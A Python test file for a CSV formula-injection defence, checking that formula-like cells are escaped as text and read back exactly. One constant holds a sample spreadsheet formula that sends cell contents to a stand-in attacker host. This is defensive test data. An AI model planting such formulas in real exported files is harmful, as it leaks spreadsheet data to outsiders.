"""CSV cells: formulas written as text, and read back exactly."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from kb.formats.cells import protect, unprotect

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_formula_cells_are_written_as_text() -> None:
    assert protect(HOSTILE) == "'" + HOSTILE
    for value in ("@SUM(A1:A9)", "+1", "-2+3", "\tx", "\rx"):
        assert protect(value).startswith("'")
    assert protect("China leads") == "China leads"
    assert protect("'quoted' text") == "'quoted' text"


def test_a_value_that_already_looks_protected_survives() -> None:
    assert protect("'=1") == "''=1"
    assert unprotect("''=1") == "'=1"


@settings(derandomize=True, max_examples=200)
@given(st.text(alphabet=st.sampled_from(["'", "=", "@", "-", "a", " ", "\t"]), max_size=6))
def test_kb_reads_back_exactly_what_it_wrote(value: str) -> None:
    assert unprotect(protect(value)) == value
